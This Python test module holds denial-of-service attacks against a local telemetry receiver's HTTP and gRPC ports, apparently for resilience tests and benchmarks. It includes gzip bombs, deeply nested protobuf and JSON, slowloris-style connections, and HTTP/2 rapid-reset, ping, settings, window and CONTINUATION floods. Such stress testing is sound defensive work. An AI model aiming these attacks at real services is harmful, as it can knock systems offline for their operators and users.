"""What hostile senders do to a receiver, for as long as they are let: one function each, for tests and benchmarks.

None expects an answer; being cut off is part of it, and then they come again. `python -m tests.receiver.attacks NAME
HTTP_PORT GRPC_PORT SECONDS` does the same in a process of its own, which takes nothing of its caller's.
"""

from __future__ import annotations

import gzip
import http.client
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from functools import cache

from tests.receiver import http2
from tests.receiver.http2 import DATA, END_HEADERS, END_STREAM, HEADERS, block, call, connected, frame, frames

MIB = 2**20
PROTOBUF, JSON = "application/x-protobuf", "application/json"


@dataclass(frozen=True, slots=True)
class Target:
    """Where to, and until when by the monotonic clock."""

    http_port: int
    grpc_port: int
    until_s: float

    @property
    def goes_on(self) -> bool:
        """Whether there is time left."""
        return time.monotonic() < self.until_s


Attack = Callable[[Target], None]


def varint(value: int) -> bytes:
    """Base-128."""
    encoded = b""
    while value > 0x7F:
        encoded += bytes([value & 0x7F | 0x80])
        value >>= 7
    return encoded + bytes([value])


def inside(tags: bytes, wire: bytes) -> bytes:
    """Messages in one another, by the tags of their fields from the outside in."""
    for tag in reversed(tags):
        wire = bytes([tag]) + varint(len(wire)) + wire
    return wire


@cache
def zeros_gzip() -> bytes:
    """200 MiB in 200 kB."""
    return gzip.compress(bytes(200 * MIB), 9)


@cache
def members_gzip() -> bytes:
    """Half a million gzip members of nothing, one after the other."""
    return gzip.compress(b"") * 500_000


def empty_links() -> bytes:
    """Two million of them, two bytes each."""
    return inside(b"\x0a\x12\x12", b"\x6a\x00" * 2_000_000)


def empty_spans() -> bytes:
    """Two million of them, two bytes each."""
    return inside(b"\x0a\x12", b"\x12\x00" * 2_000_000)


def nested() -> bytes:
    """A list in a list, 20,000 times."""
    wire = b""
    for tag in (*(b"\x0a", b"\x2a") * 20_000, b"\x2a", b"\x12", b"\x12", b"\x0a"):
        wire = tag + varint(len(wire)) + wire
    return wire


def nested_json() -> bytes:
    """The same as JSON, cut off at its deepest."""
    return b'{"resourceLogs":' + b'[{"x":' * 100_000


def objects_json() -> bytes:
    """Four million of them."""
    return b'{"resourceSpans":[' + b"{}," * 4_000_000 + b"{}]}"


def keys_json() -> bytes:
    """An object with a million keys that nobody knows."""
    return b'{"x":{' + b",".join(b'"%x":0' % number for number in range(1_000_000)) + b"}}"


def posting(signal: str, body: Callable[[], bytes], media: str = PROTOBUF, coding: str = "identity") -> Attack:
    """Send the same HTTP request again and again."""

    def attack(target: Target) -> None:
        sent, headers = body(), {"Content-Type": media, "Content-Encoding": coding}
        while target.goes_on:
            connection = http.client.HTTPConnection("127.0.0.1", target.http_port, timeout=30)
            with suppress(OSError, http.client.HTTPException):
                connection.request("POST", f"/v1/{signal}", sent, headers)
                connection.getresponse().read()
            connection.close()

    return attack


def calling(body: Callable[[], bytes], *, compressed: bool = False) -> Attack:
    """Send the same gRPC request again and again."""
    import grpc

    def attack(target: Target) -> None:
        options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
        compression = grpc.Compression.Gzip if compressed else grpc.Compression.NoCompression
        with grpc.insecure_channel(f"127.0.0.1:{target.grpc_port}", options, compression) as channel:
            sent = body()
            while target.goes_on:
                with suppress(grpc.RpcError):
                    channel.unary_unary(http2.TRACES)(sent, timeout=30)

    return attack


def connecting(port: Callable[[Target], int], hello: bytes, *, connections: int, more: bytes = b"") -> Attack:
    """Hold connections, as many as there may be, and say little on them."""

    def attack(target: Target) -> None:
        while target.goes_on:
            with ExitStack() as open_connections:
                clients = []
                for _ in range(connections):
                    with suppress(OSError):
                        address = ("127.0.0.1", port(target))
                        client = open_connections.enter_context(socket.create_connection(address, timeout=5))
                        client.sendall(hello)
                        clients.append(client)
                while target.goes_on:
                    time.sleep(0.2)
                    for client in clients:
                        with suppress(OSError):
                            client.sendall(more)

    return attack


def flooding(build: Callable[[int], bytes], first: bytes = b"") -> Attack:
    """Send HTTP/2 frames without end, and read what comes."""

    def attack(target: Target) -> None:
        while target.goes_on:
            with suppress(OSError), connected(target.grpc_port) as client:
                reader = threading.Thread(target=_swallow, args=(client,), daemon=True)
                reader.start()
                client.sendall(first)
                number = 0
                while target.goes_on:
                    client.sendall(build(number))
                    number += 1
                client.shutdown(socket.SHUT_RDWR)
                reader.join(5)

    return attack


def _swallow(client: socket.socket) -> None:
    with suppress(OSError):
        for _ in frames(client):
            pass


def _rapid_reset(number: int) -> bytes:
    streams = range(200 * number + 1, 200 * number + 201, 2)
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, call()) + frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))
        for stream in streams
    )


def _made_reset(number: int) -> bytes:
    """Streams that the server has to reset: a window of nothing for each."""
    streams = range(200 * number + 1, 200 * number + 201, 2)
    return b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, call())
        + frame(http2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
        for stream in streams
    )


def _slow_streams(streams: int) -> bytes:
    parts: Iterator[bytes] = (
        frame(HEADERS, END_HEADERS, 2 * number + 1, call()) + frame(DATA, 0, 2 * number + 1, b"\0\0\0\x10\0x")
        for number in range(streams)
    )
    return http2.PREFACE + http2.settings() + b"".join(parts)


def _long_headers(number: int) -> bytes:
    return frame(http2.CONTINUATION, 0, 1, block([(f"x-{number}", "y" * 200)] * 40))


_HEAD = b"POST /v1/traces HTTP/1.1\r\nHost: x\r\n"
_BODY = _HEAD + b"Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{"


def _http(target: Target) -> int:
    return target.http_port


def _grpc(target: Target) -> int:
    return target.grpc_port


ATTACKS: dict[str, Attack] = {
    "gzip bomb": posting("traces", zeros_gzip, coding="gzip"),
    "gzip bomb of many members": posting("traces", members_gzip, coding="gzip"),
    "gzip bomb over gRPC": calling(lambda: bytes(200 * MIB), compressed=True),
    "empty spans": posting("traces", empty_spans),
    "empty links over gRPC": calling(empty_links),
    "empty objects": posting("traces", objects_json, JSON),
    "nesting": posting("logs", nested),
    "nesting in JSON": posting("logs", nested_json, JSON),
    "unknown keys": posting("traces", keys_json, JSON),
    "oversized headers": connecting(_http, _HEAD + b"X: " + b"y" * 100_000, connections=50, more=b"y" * 1_000),
    "slow heads": connecting(_http, _HEAD, connections=700, more=b"X: y\r\n"),
    "slow bodies": connecting(_http, _BODY, connections=700, more=b" "),
    "idle connections": connecting(_http, b"", connections=700),
    "idle gRPC connections": connecting(_grpc, b"", connections=300),
    "slow streams": connecting(_grpc, _slow_streams(8), connections=20),
    "HTTP/1.1 and noise on the gRPC port": connecting(_grpc, _HEAD + bytes(range(256)) * 20, connections=100),
    "rapid reset": flooding(_rapid_reset),
    "resets that the server makes": flooding(_made_reset),
    "ping flood": flooding(lambda _: frame(http2.PING, 0, 0, b"12345678") * 200),
    "settings flood": flooding(lambda _: http2.settings((4, 65_535)) * 200),
    "window flood": flooding(lambda _: frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 200),
    "continuation flood": flooding(_long_headers, frame(HEADERS, 0, 1, call())),
    "empty continuations": flooding(lambda _: frame(http2.CONTINUATION, 0, 1) * 200, frame(HEADERS, 0, 1, call())),
}
"""By name."""


def main(name: str, http_port: str, grpc_port: str, seconds: str) -> None:
    """Attack for so long."""
    ATTACKS[name](Target(int(http_port), int(grpc_port), time.monotonic() + float(seconds)))


if __name__ == "__main__":
    main(*sys.argv[1:])
